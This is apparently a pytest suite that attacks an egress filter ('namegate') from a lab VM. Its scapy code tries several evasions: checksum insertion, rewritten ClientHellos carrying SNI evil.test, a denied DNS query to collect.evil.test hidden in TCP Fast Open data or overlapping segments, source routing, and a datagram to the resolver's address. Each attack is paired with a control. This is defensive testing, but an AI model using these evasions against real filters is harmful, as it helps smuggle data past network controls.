"""Attacks from a hostile VM on what namegate believes about a connection (SPEC s4 steps
2, 5, 7 and the s8 additions: a verdict belongs to one connection, only what the receiver
will accept is judged, SYN data is stream data, DNS over TCP is a stream, source routes
are dropped, a resolver's address is never bound). Each test builds its frames in the VM
(scapy, or plain sockets) and asserts on the internet side: the servers' logged SNIs,
dnsmasq's query log, or a capture on the internet namespace's link. Every attack is
paired with an allowed control, so a test cannot pass by everything being broken.

The scapy handshakes use source ports 20000-20999 (below the VMs' ephemeral range), for
which the VM's nftables drops the RSTs its own kernel would send for connections it does
not know; real sockets (ephemeral ports, or 44001) keep their RSTs.
"""
import contextlib
import json
import os
import secrets
import shutil
import struct
import subprocess

import pytest

import lab as labmod
import lab_services as svc
import ng_counters as nc
import tls_start
from lab_net import wait_until
from test_dataplane import start

GHCONTENT = "203.0.113.13"
VM1 = "10.77.0.11"
HERE = os.path.dirname(os.path.abspath(__file__))


def _namegatectl():
    for c in (os.environ.get("NAMEGATECTL_BIN"),
              os.path.join(HERE, "..", "..", "build", "control", "namegatectl"),
              shutil.which("namegatectl")):
        if c and os.access(c, os.X_OK):
            return os.path.abspath(c)
    return None


@pytest.fixture(scope="module")
def ng(request):
    ctl = _namegatectl()
    if ctl:
        os.environ.setdefault("NAMEGATECTL_BIN", ctl)
    lab = start(request)
    # the VM kernel must not reset the scapy handshakes' SYN-ACKs and segments
    lab.vm_exec("vm1", "nft add table inet ngconn && nft add chain inet ngconn out "
                "'{ type filter hook output priority 0; }' && nft add rule inet ngconn out "
                "tcp sport 20000-20999 tcp flags rst drop", check=True)
    return lab


def unique(suffix):
    return f"{secrets.token_hex(6)}.{suffix}"


def queried(lab, name):
    return [q for q in lab.resolver_queries() if q[1] == name]


def denied_query_stopped(lab, cap, denied, what):
    """Neither did what (the denied name's query) cross the wire (cap, synced) nor did the
    denied name reach the resolver."""
    assert not cap.frames_with(denied.split(".")[0].encode()), f"{what} reached the internet"
    assert not queried(lab, denied), \
        f"the denied name reached the resolver: {queried(lab, denied)}"


def snis(lab, client_port, sni=None):
    """SNIs the servers read from vm1's source port client_port (optionally just one)."""
    return [e["sni"] for e in lab.server_events(event="sni", client=VM1,
                                                client_port=client_port)
            if sni is None or e["sni"] == sni]


def bindings(lab, vm):
    cp = lab.namegatectl("bindings", vm) if _namegatectl() else None
    return cp.stdout if cp is not None and cp.returncode == 0 else None


# ---------------------------------------------------------------- captures

_CAPTURE = r"""
import select, socket, sys
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
s.bind((sys.argv[2], 0))
out = open(sys.argv[1], "w")
print("ready", flush=True)
while True:
    r, _, _ = select.select([s, sys.stdin], [], [])
    if s in r:
        out.write(s.recv(65535).hex() + "\n"); out.flush()
    elif sys.stdin in r:
        break
"""


def _parse(frame):
    """The IPv4 part of an Ethernet frame: dict(src, dst, proto, ihl, sport, dport, flags,
    seq, payload), or None."""
    off = 14
    if len(frame) < 34 or frame[12:14] == b"\x81\x00":
        return None
    if frame[12:14] != b"\x08\x00":
        return None
    ihl = (frame[off] & 15) * 4
    total = struct.unpack(">H", frame[off + 2:off + 4])[0]
    ip = frame[off:off + total]
    p = dict(src=".".join(map(str, ip[12:16])), dst=".".join(map(str, ip[16:20])),
             proto=ip[9], ihl=ihl, frag=struct.unpack(">H", ip[6:8])[0] & 0x3fff,
             sport=None, dport=None, flags=0, seq=None, payload=b"")
    l4 = ip[ihl:]
    if p["proto"] in (6, 17) and len(l4) >= 8 and not p["frag"]:
        p["sport"], p["dport"] = struct.unpack(">HH", l4[:4])
        if p["proto"] == 6 and len(l4) >= 20:
            p["seq"] = struct.unpack(">I", l4[4:8])[0]
            p["flags"] = l4[13]
            p["payload"] = l4[(l4[12] >> 4) * 4:]
        else:
            p["payload"] = l4[8:]
    return p


class Capture:
    """Every frame on a namespace's eth0, read back as packets parsed by parse (default:
    IPv4 with its TCP/UDP header, _parse)."""

    def __init__(self, lab, ns, name, parse=None):
        self.lab, self.ns, self.parse = lab, ns, parse or _parse
        self.path = os.path.join(lab.tmpdir, f"cap-{name}-{secrets.token_hex(3)}.hex")

    def __enter__(self):
        self.proc = subprocess.Popen(["ip", "netns", "exec", self.ns, labmod.PYTHON, "-c",
                                      _CAPTURE, self.path, "eth0"],
                                     stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                     stderr=subprocess.PIPE, text=True)
        if self.proc.stdout.readline().strip() != "ready":
            self.proc.kill()
            raise RuntimeError(f"capture in {self.ns} did not start: "
                               f"{self.proc.communicate()[1]}")
        return self

    def __exit__(self, *exc):
        self.proc.stdin.close()
        try:
            self.proc.wait(5)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()

    def packets(self, **match):
        try:
            with open(self.path) as f:
                lines = f.read().splitlines()
        except FileNotFoundError:
            lines = []
        out = []
        for line in lines:
            try:
                p = self.parse(bytes.fromhex(line))
            except (ValueError, struct.error):  # a line being written
                continue
            if p and all(p.get(k) == v for k, v in match.items()):
                out.append(p)
        return out

    def sync(self, vm="vm1"):
        """Everything the VM sent before this reached namegate before a DNS query for a
        fresh allowed name (one worker, in order): once the query shows up here, what has
        not is not coming. (The positive marker every absence on this link is read after.)"""
        name = unique("githubusercontent.com")
        self.lab.dig(vm, name, timeout=5)
        wait_until(lambda: [p for p in self.packets(proto=17, dport=53)
                            if name.split(".")[0].encode() in p["payload"]],
                   what=f"sync query {name} to reach {self.ns} (else the lab is broken)")

    def frames_with(self, needle):
        """Captured frames (any kind, fragments too) whose bytes contain needle."""
        try:
            with open(self.path) as f:
                lines = f.read().splitlines()
        except FileNotFoundError:
            return []
        out = []
        for line in lines:
            try:
                frame = bytes.fromhex(line)
            except ValueError:          # a line being written
                continue
            if needle in frame:
                out.append(frame)
        return out


def inet_capture(lab, name="inet"):
    return Capture(lab, lab.inet_ns, name)


def hello_with(cap, text, src=VM1):
    """Captured TCP segments from src carrying text (an SNI in a ClientHello, say)."""
    return [(p["dst"], p["dport"], p["sport"]) for p in cap.packets(src=src, proto=6)
            if text.encode() in p["payload"]]


# ---------------------------------------------------------------- scapy in the VM

_HELPERS = tls_start.SOURCE + r"""
import select, socket, ssl, struct, time
def client_hello(sni):
    return tls_start(sni)[3]

def handshake(dst, sport, dport=443, isn=1000):
    # IPv4 or IPv6 by the address; the MSS leaves room for the larger header
    ip, mss = (IPv6(dst=dst), 1440) if ':' in dst else (IP(dst=dst), 1460)
    sa = sr1(ip/TCP(sport=sport, dport=dport, flags='S', seq=isn, options=[('MSS', mss)]),
             timeout=20)
    if sa is None or not sa.haslayer(TCP) or (sa[TCP].flags & 0x12) != 0x12:
        raise SystemExit(f'no SYN-ACK from {dst}:{dport}: {sa!r}')
    send(ip/TCP(sport=sport, dport=dport, flags='A', seq=isn + 1, ack=sa[TCP].seq + 1))
    return ip, isn + 1, sa[TCP].seq + 1

def listen(dst, sport, dport=443):
    return conf.L2listen(iface=VM['iface'],
                         filter=f'tcp and src host {dst} and src port {dport} and dst port {sport}')

def reset_seen(sock, timeout=20):
    # an RST that is expected: the timeout is only a cap
    got = sniff(opened_socket=sock, timeout=timeout,
                stop_filter=lambda p: p.haslayer(TCP) and p[TCP].flags.R)
    return any(p.haslayer(TCP) and p[TCP].flags.R for p in got)

def sync(timeout=20):
    # Namegate answers a query for the probe name itself, and only after it has judged
    # what this VM sent before (one worker, in order), and after what it sent back for
    # that (an RST, say: it left on the same port first). So once the answer is in, what
    # has not come is not coming: a marker absences are read after (see Lab.sync: it is
    # not a proof for positive checks). Raises if no answer comes.
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(timeout)
    u.sendto(bytes(DNS(id=0x5959, rd=1, qd=DNSQR(qname='probe.lab.invalid'))), (RESOLVER, 53))
    u.recv(4096)
    u.close()

def resets_pending(sock):
    # an RST already in sock (call after sync()), without waiting for one
    got = False
    while select.select([sock], [], [], 0)[0]:
        p = sock.recv()
        got = got or (p is not None and p.haslayer(TCP) and bool(p[TCP].flags.R))
    return got

def seg(ip, sport, seq, ack, data, dport=443, flags='PA'):
    return ip/TCP(sport=sport, dport=dport, flags=flags, seq=seq, ack=ack)/data

def bad_tcp_csum(p):
    p = IP(bytes(p))
    p[TCP].chksum ^= 0x5a5a
    return p

def bad_ip_csum(p):
    p = IP(bytes(p))
    p[IP].chksum ^= 0x5a5a
    return p

def result(**kw):
    print('RESULT ' + json.dumps(kw))
"""


def vm_scapy(lab, code, timeout=120):
    """Scapy code in vm1 with the helpers above; returns what it passed to result()."""
    cp = lab.scapy("vm1", _HELPERS + labmod._dedent(code), timeout=timeout)
    for line in cp.stdout.splitlines():
        if line.startswith("RESULT "):
            return json.loads(line[7:])
    raise AssertionError(f"scapy in vm1 printed no result (rc {cp.returncode}): "
                         f"{cp.stdout[-500:]} {cp.stderr[-1500:]}")


def resolve(lab, name, vm="vm1"):
    addrs = lab.dig(vm, name).addresses
    assert addrs, f"{name} did not resolve for {vm}"
    return addrs[0]


# ---------------------------------------------------------------- 1. a verdict per connection

_REUSE_CLIENT = r"""
import json, socket, ssl, struct, sys
addr, port, ca = json.loads(sys.argv[1])
def attempt(sni, verify):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", port))
    s.settimeout(4)
    try:
        s.connect((addr, 443))
        if verify:
            ctx = ssl.create_default_context(cafile=ca)
        else:
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
        s = ctx.wrap_socket(s, server_hostname=sni)
        s.sendall(b"GET / HTTP/1.1\r\nHost: " + sni.encode() + b"\r\n\r\n")
        return "ok" if s.recv(4096).startswith(b"HTTP/1.1 200") else "no answer"
    except (ConnectionResetError, BrokenPipeError):
        return "reset"
    except ConnectionRefusedError:
        return "refused"
    except socket.timeout:
        return "timeout"
    except ssl.SSLError as e:
        return "tls " + str(e)
    finally:
        try:                # a handshake that failed has detached s from its descriptor
            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        except OSError:
            pass
        s.close()           # with linger 0: an RST ends the connection at once
print(json.dumps([attempt("pypi.org", True), attempt("evil.test", False)]))
"""


def test_new_connection_on_a_reset_4tuple_is_judged_again(ng):
    """Attack 1a: a new connection on a just-reset allowed 4-tuple sends SNI evil.test."""
    # an allowed TLS request from source port 44001, closed with an RST (linger 0); then a
    # new connection from the same port to the same address with SNI evil.test
    addr = resolve(ng, "pypi.org")
    port = 44001
    with inet_capture(ng) as cap:
        out = ng.vm_exec("vm1", [labmod.PYTHON, "-c", _REUSE_CLIENT,
                                 json.dumps([addr, port, ng.ca_path])], timeout=20)
        cap.sync()
    assert out.stdout.strip(), f"the client failed: {out.stderr[-2000:]}"
    first, second = json.loads(out.stdout.strip().splitlines()[-1])
    assert first == "ok", out.stderr                    # control: the allowed connection
    assert snis(ng, port, "pypi.org")
    assert not snis(ng, port, "evil.test"), "the server read SNI evil.test"
    assert not hello_with(cap, "evil.test"), "a ClientHello for evil.test reached the internet"
    assert second == "reset"


def test_second_syn_with_another_isn_is_judged_again(ng):
    """Attack 1b: a second SYN with another ISN on a live flow, then SNI evil.test."""
    # No close that namegate sees: the server's side of the old connection is ended by a
    # fragmented RST (fragments go to the slow path, which passes them to a bound address).
    # A namegate that does pass it as an RST still sees a SYN with a new ISN.
    addr = resolve(ng, "pypi.org")
    sport = 20010
    # in steps, the test saying when to go on: each step waits for what the last one did
    # to have happened at the server
    code = ng.scapy_code("vm1", _HELPERS + labmod._dedent(f"""
        import sys
        ip, seq, ack = handshake({addr!r}, {sport}, isn=1000)
        h = client_hello('pypi.org')
        send(seg(ip, {sport}, seq, ack, h))
        seq += len(h)
        print('hello sent', flush=True)
        sys.stdin.readline()
        # the server forgets the connection; namegate sees a fragment, not an RST
        for f in fragment(ip/TCP(sport={sport}, dport=443, flags='R', seq=seq)/(b'z' * 16),
                          fragsize=24):
            send(f)
        print('reset sent', flush=True)
        sys.stdin.readline()
        s = listen({addr!r}, {sport})
        # a new SYN-ACK if the server forgot the old connection, else a challenge ACK:
        # either way the new sequence space goes on
        r = sr1(ip/TCP(sport={sport}, dport=443, flags='S', seq=3000000000,
                       options=[('MSS', 1460)]), timeout=20)
        ack2 = r[TCP].seq + (1 if r is not None and r[TCP].flags.S else 0) if r else 0
        send(ip/TCP(sport={sport}, dport=443, flags='A', seq=3000000001, ack=ack2))
        send(seg(ip, {sport}, 3000000001, ack2, client_hello('evil.test')))
        result(reset=reset_seen(s), synack=bool(r is not None and r[TCP].flags.S))
    """))
    with inet_capture(ng) as cap, ng.background("vm1", code) as vm:
        assert vm.line() == "hello sent"
        wait_until(lambda: snis(ng, sport, "pypi.org"),
                   what="the server to read the allowed ClientHello")
        vm.send()
        assert vm.line() == "reset sent"
        # The server drops the connection when the RST reaches it (the slow path passes
        # the fragments to the bound address): its handshake then fails, logged as a
        # tls_error. A namegate that dropped the fragments would leave the connection up
        # and the new SYN would get a challenge ACK, which the test allows too: so this
        # waits for the event but goes on without it.
        try:
            wait_until(lambda: ng.server_events(event="tls_error", client=VM1,
                                                client_port=sport), 10)
        except AssertionError:
            pass
        vm.send()
        line = vm.line()
        assert line.startswith("RESULT "), (line, vm.stderr())
        r = json.loads(line[7:])
        vm.finish()
        cap.sync()
    # the capture, synced, is what proves no evil.test hello reached the internet: so the
    # server's log is read after it, with no waiting for an event that must not come
    assert snis(ng, sport) and snis(ng, sport)[0] == "pypi.org"   # control: first verdict
    assert not snis(ng, sport, "evil.test"), "the server read SNI evil.test"
    assert not hello_with(cap, "evil.test"), "a ClientHello for evil.test reached the internet"
    assert r["reset"], "the VM was not reset"


def test_retransmitted_syn_with_the_same_isn_then_allowed_hello_passes(ng):
    """Control 1c: a retransmitted SYN (same ISN), then an allowed ClientHello, passes."""
    addr = resolve(ng, "pypi.org")
    sport = 20011
    vm_scapy(ng, f"""
        send(IP(dst={addr!r})/TCP(sport={sport}, dport=443, flags='S', seq=5000,
             options=[('MSS', 1460)]))
        ip, seq, ack = handshake({addr!r}, {sport}, isn=5000)
        send(seg(ip, {sport}, seq, ack, client_hello('pypi.org')))
        result(sent=True)
    """)
    assert wait_until(lambda: snis(ng, sport)) == ["pypi.org"]


# ---------------------------------------------------------------- 2. insertion by bad checksum

@contextlib.contextmanager
def switch_without_br_netfilter(lab):
    """The lab's VM bridge runs br_netfilter, which drops IPv4 headers with a bad checksum
    before namegate sees them; a real switch does not look. Off for the test."""
    key = "net.bridge.bridge-nf-call-iptables"
    old = lab.sw_exec(["sysctl", "-n", key]).stdout.strip()
    lab.sw_exec(["sysctl", "-qw", f"{key}=0"])
    try:
        yield
    finally:
        if old:
            lab.sw_exec(["sysctl", "-qw", f"{key}={old}"])


def test_hello_with_a_bad_checksum_is_not_judged(ng):
    """Attack 2: insertion: a bad-checksum allowed ClientHello, then evil.test at its seq."""
    # The allowed hello's TCP (port 20020) or IPv4 header (20021) checksum is wrong, so the
    # server drops it; the real one, at the same sequence number, names evil.test.
    addr = resolve(ng, "pypi.org")
    with switch_without_br_netfilter(ng), inet_capture(ng) as cap:
        r = vm_scapy(ng, f"""
            out = {{}}
            for sport, corrupt, real in ((20020, bad_tcp_csum, 'evil.test'),
                                         (20021, bad_ip_csum, 'evil.test'),
                                         (20022, bad_tcp_csum, 'pypi.org')):
                ip, seq, ack = handshake({addr!r}, sport)
                s = listen({addr!r}, sport)
                send(corrupt(seg(ip, sport, seq, ack, client_hello('pypi.org'))))
                send(seg(ip, sport, seq, ack, client_hello(real)))
                if real != 'pypi.org':
                    out[sport] = reset_seen(s)
                else:               # no reset expected: whatever namegate sent is in by now
                    sync()
                    out[sport] = resets_pending(s)
            result(**{{str(k): v for k, v in out.items()}})
        """)
        cap.sync()
    # control: after a corrupt copy, the real allowed hello still gets through
    assert wait_until(lambda: snis(ng, 20022)) == ["pypi.org"]
    # the synced capture proves no evil.test hello crossed: the server's log is read now
    assert not snis(ng, 20020, "evil.test"), "bad TCP checksum: the server read SNI evil.test"
    assert not snis(ng, 20021, "evil.test"), "bad IP checksum: the server read SNI evil.test"
    assert not hello_with(cap, "evil.test"), "a ClientHello for evil.test reached the internet"
    assert r["20020"] and r["20021"], f"the VM was not reset: {r}"


# ---------------------------------------------------------------- 3. rewriting judged bytes

def test_rewriting_released_hello_bytes_cuts_the_flow(ng):
    """Attack 3: released ClientHello bytes rewritten at the same seq to say evil.test."""
    # The allowed hello is judged and released but ACKs data the server never sent, so the
    # server discards it (RFC 793 s3.9); the same sequence range then comes again with a
    # ClientHello for evil.test, which the server reads.
    addr = resolve(ng, "pypi.org")
    sport, control = 20030, 20031
    with inet_capture(ng) as cap:
        r = vm_scapy(ng, f"""
            ip, seq, ack = handshake({addr!r}, {sport})
            s = listen({addr!r}, {sport})
            send(seg(ip, {sport}, seq, ack + 100000, client_hello('pypi.org')))
            send(seg(ip, {sport}, seq, ack, client_hello('evil.test')))
            reset = reset_seen(s)
            # control: the same bytes again are a retransmission, not a rewrite
            ip, seq, ack = handshake({addr!r}, {control})
            s = listen({addr!r}, {control})
            h = client_hello('pypi.org')
            send(seg(ip, {control}, seq, ack, h))
            send(seg(ip, {control}, seq, ack, h))
            sync()          # namegate has judged both copies: a reset would be here now
            result(reset=reset, control_reset=resets_pending(s))
        """)
        cap.sync()
    # the synced capture proves no rewritten hello crossed: the server's log is read now
    assert wait_until(lambda: snis(ng, control)) == ["pypi.org"] and not r["control_reset"], \
        f"control: an identical retransmission of an allowed hello was not let through: {r}"
    assert not snis(ng, sport, "evil.test"), "the server read the rewritten SNI evil.test"
    assert not hello_with(cap, "evil.test"), "the rewritten ClientHello reached the internet"
    assert r["reset"], "the flow was not cut"


# ---------------------------------------------------------------- 4. TCP Fast Open

@contextlib.contextmanager
def fastopen(lab, vm_value=3):
    """Fast Open on in the VM (client) and the internet (server); restored afterwards."""
    old = [lab.vm_exec("vm1", "sysctl -n net.ipv4.tcp_fastopen").stdout.strip(),
           lab.inet_exec("sysctl -n net.ipv4.tcp_fastopen").stdout.strip()]
    lab.vm_exec("vm1", f"sysctl -qw net.ipv4.tcp_fastopen={vm_value}", check=True)
    lab.inet_exec("sysctl -qw net.ipv4.tcp_fastopen=3", check=True)
    try:
        yield
    finally:
        lab.vm_exec("vm1", f"sysctl -qw net.ipv4.tcp_fastopen={old[0] or 1}")
        lab.inet_exec(f"sysctl -qw net.ipv4.tcp_fastopen={old[1] or 1}")


def test_dns_query_in_syn_data_is_filtered(ng):
    """Attack 4a: TCP Fast Open: a denied DNS-over-TCP query in the data of a SYN."""
    # with a Fast Open cookie the resolver handed out a moment before
    denied = unique("collect.evil.test")
    allowed = unique("githubusercontent.com")
    with fastopen(ng), inet_capture(ng) as cap:
        vm_scapy(ng, f"""
            ip = IP(dst=RESOLVER)
            sa = sr1(ip/TCP(sport=20040, dport=53, flags='S', seq=1000,
                            options=[('MSS', 1460), ('TFO', b'')]), timeout=20)
            cookie = [v for k, v in (sa[TCP].options if sa else []) if k == 'TFO']
            if not cookie:
                raise SystemExit(f'the resolver gave no Fast Open cookie: {{sa!r}}')
            send(ip/TCP(sport=20040, dport=53, flags='R', seq=1001))
            def query(name, sport):
                q = bytes(DNS(id=0x4444, rd=1, qd=DNSQR(qname=name)))
                send(ip/TCP(sport=sport, dport=53, flags='S', seq=7000,
                            options=[('MSS', 1460), ('TFO', cookie[0])])/
                     (struct.pack('>H', len(q)) + q))
            query({denied!r}, 20041)
            query({allowed!r}, 20042)
            result(cookie=True)
        """)
        wait_until(lambda: queried(ng, allowed),
                   what="control: the allowed query in SYN data to reach the resolver")
        cap.sync()
    # the resolver can read only what crossed the wire: once the capture is synced, the
    # denied name's absence from it is final, and from the resolver's log too
    denied_query_stopped(ng, cap, denied, "the denied query in SYN data")


def test_tcp_fast_open_clients_keep_working(ng):
    """Control 4b: real TFO clients (curl --tcp-fastopen, hello in the SYN) keep working."""
    addr = resolve(ng, "pypi.org")
    results = []
    with fastopen(ng), Capture(ng, ng.vm("vm1").ns, "vm1") as cap:
        for _ in range(3):
            results.append(ng.curl("vm1", "https://pypi.org/", timeout=20,
                                   args=["--tcp-fastopen"]))
    syns = [p for p in cap.packets(src=VM1, dst=addr, proto=6, dport=443)
            if p["flags"] & 0x12 == 0x02]
    with_data = [p for p in syns if p["payload"]]
    assert len(syns) >= 3 and len(with_data) >= 2, \
        f"Fast Open not exercised: {len(syns)} SYNs, {len(with_data)} with data"
    assert all(b"pypi.org" in p["payload"] for p in with_data)
    assert [r.outcome for r in results] == ["ok"] * 3, [r.stderr for r in results]


# ---------------------------------------------------------------- 5. DNS over TCP as a stream

def test_overlapping_dns_segments_cannot_smuggle_a_denied_query(ng):
    """Attack 5a: overlapping DNS-over-TCP segments make the resolver read a denied query."""
    # An allowed query, then a segment at the same sequence number that parses alone as one
    # longer allowed query (the extra bytes in an EDNS Padding option); the resolver keeps
    # the bytes it already has and reads the new tail as the next message: the denied one.
    allowed = unique("githubusercontent.com")
    denied = unique("collect.evil.test")
    with inet_capture(ng) as cap:
        vm_scapy(ng, f"""
        ip, seq, ack = handshake(RESOLVER, 20050, dport=53)
        def framed(m):
            return struct.pack('>H', len(m)) + m
        question = bytes(DNS(rd=1, qd=DNSQR(qname={allowed!r})))[12:]
        def padded_query(qid, pad):
            # header (1 question, 1 additional) | question | OPT with a Padding option
            return (struct.pack('>6H', qid, 0x0100, 1, 0, 0, 1) + question +
                    b'\\x00' + struct.pack('>HHIH', 41, 1232, 0, 4 + len(pad)) +
                    struct.pack('>HH', 12, len(pad)) + pad)
        bad = framed(bytes(DNS(id=0x2222, rd=1, qd=DNSQR(qname={denied!r}))))
        first = framed(padded_query(0x1111, b''))
        second = framed(padded_query(0x3333, bad))
        assert second[len(first):] == bad        # the tail past `first` is the denied query
        send(seg(ip, 20050, seq, ack, first, dport=53))
        send(seg(ip, 20050, seq, ack, second, dport=53))
        result(sent=True)
        """)
        wait_until(lambda: queried(ng, allowed),
                   what="control: the allowed query to reach the resolver")
        cap.sync()
    # every byte of the denied query is in the second segment's padding: the resolver can
    # read it only if those bytes crossed the wire, and once the capture is synced, their
    # absence from it is final (so is the resolver's log's)
    denied_query_stopped(ng, cap, denied, "the bytes of the denied query")


_DNS_TCP_CLIENT = r"""
import socket, struct, sys
from scapy.all import DNS, DNSQR
name, split, mss = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
s = socket.socket()
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
if mss:
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, mss)
s.settimeout(20)
s.connect(("10.77.0.1", 53))
q = bytes(DNS(id=0x5151, rd=1, qd=DNSQR(qname=name)))
msg = struct.pack(">H", len(q)) + q
if split:
    # the first part must leave as a segment of its own before the rest is written:
    # wait until the kernel has sent it (tcpi_data_segs_out, TCP_INFO offset 156)
    s.sendall(msg[:split])
    import time
    end = time.monotonic() + 20
    while struct.unpack_from("=I", s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 256),
                             156)[0] < 1:
        if time.monotonic() > end:
            print("error first-segment-not-sent"); sys.exit()
        time.sleep(0.005)
    s.sendall(msg[split:])
else:
    s.sendall(msg)
buf = b""
try:
    while len(buf) < 2 or len(buf) < 2 + struct.unpack(">H", buf[:2])[0]:
        d = s.recv(65536)
        if not d:
            break
        buf += d
except OSError as e:
    print("error", type(e).__name__); sys.exit()
if len(buf) < 2:
    print("closed"); sys.exit()
a = DNS(buf[2:])
addrs = [a.an[i].rdata for i in range(a.ancount) if a.an[i].type == 1]
off = buf.find(socket.inet_aton("203.0.113.13"))
print("answer", a.rcode, " ".join(addrs), off)
"""


def dns_tcp(lab, name, split=0, mss=0):
    cp = lab.vm_exec("vm1", [labmod.PYTHON, "-c", _DNS_TCP_CLIENT, name, str(split), str(mss)],
                     timeout=40)
    return cp.stdout.split(), cp.stderr


def test_dns_query_split_over_two_segments_is_answered(ng):
    """Control 5b: a DNS-over-TCP query split over two segments is answered."""
    out, err = dns_tcp(ng, "files.pythonhosted.org", split=5)
    assert out[:3] == ["answer", "0", "203.0.113.11"], (out, err)


def test_dns_answer_over_several_segments_is_learned(ng):
    """Control 5c: a DNS-over-TCP answer spanning several segments is learned."""
    # An allowed name with 30 A records, answered to a client that advertised an MSS of
    # 256; the one served address is in the last segment.
    mss = 256
    out, err = dns_tcp(ng, "big.githubusercontent.com", mss=mss)
    assert out[:2] == ["answer", "0"] and len(out) == 33, (out, err)
    assert GHCONTENT in out[2:32] and int(out[32]) >= mss, \
        f"the served address is not past the first segment: {out}"
    listed = bindings(ng, "vm1")
    if listed is not None:
        bound = {line.split()[1] for line in listed.splitlines()[1:]
                 if line.startswith("big.githubusercontent.com")}
        assert set(out[2:32]) <= bound, f"not learned: {sorted(set(out[2:32]) - bound)}"
    r = ng.curl("vm1", "https://big.githubusercontent.com/", insecure=True,
                resolve=f"big.githubusercontent.com:443:{GHCONTENT}")
    assert r.ok and r.json()["server"] == "ghcontent", (r.outcome, r.stderr)


# ---------------------------------------------------------------- 6. source routing

def test_source_routed_syn_is_dropped(ng):
    """Attack 6: source routing: SYNs to a bound address with an LSRR / SSRR option."""
    # the route names 203.0.113.20 (evil) as the hop after the bound address
    addr = resolve(ng, "pypi.org")
    with inet_capture(ng) as cap, nc.Delta(ng) as d:
        vm_scapy(ng, f"""
            for sport, opt in ((20060, IPOption_LSRR), (20061, IPOption_SSRR), (20062, None)):
                ip = IP(dst={addr!r}, options=[opt(routers=['203.0.113.20'])] if opt else [])
                send(ip/TCP(sport=sport, dport=443, flags='S', seq=1000))
            result(sent=True)
        """)
        wait_until(lambda: cap.packets(src=VM1, sport=20062, dport=443),
                   what="control: the plain SYN to reach the internet")
        cap.sync()
    routed = [(p["sport"], p["ihl"]) for p in cap.packets(src=VM1, dst=addr, proto=6)
              if p["sport"] in (20060, 20061)]
    assert not routed, f"source-routed SYNs reached the internet: {routed}"
    def vm1_blocks():
        d.refresh()
        return {k: d.after[k] - d.before.get(k, 0) for k in d.after
                if k.startswith('namegate_vm_blocked_total{vm="vm1"')
                and d.after[k] != d.before.get(k, 0)}
    # polled: the sync above is a marker for the capture, not a proof the SYNs were counted
    moved = wait_until(vm1_blocks, what="namegate to count a block for vm1")
    assert moved, "namegate counted no block for vm1"


# ---------------------------------------------------------------- 7. the resolver's address

def test_resolver_address_is_never_bound(ng):
    """Attack 7: an allowed name resolving to the resolver's address opens its other ports."""
    # resolver.githubusercontent.com is 10.77.0.1; then a datagram to 10.77.0.1:5353
    r = ng.dig("vm1", "resolver.githubusercontent.com")
    assert r.rcode is not None, r.raw       # answered (with or without the address)
    with inet_capture(ng) as cap:
        vm_scapy(ng, """
            send(IP(dst=RESOLVER)/UDP(sport=20070, dport=5353)/b'exfiltrated')
            result(sent=True)
        """)
        cap.sync()
    leaked = cap.packets(src=VM1, dst=svc.RESOLVER, proto=17, dport=5353)
    assert not leaked, "a datagram to the resolver's address on port 5353 reached the internet"
    listed = bindings(ng, "vm1")
    if listed is not None:
        assert svc.RESOLVER not in listed.split(), f"namegate bound the resolver:\n{listed}"
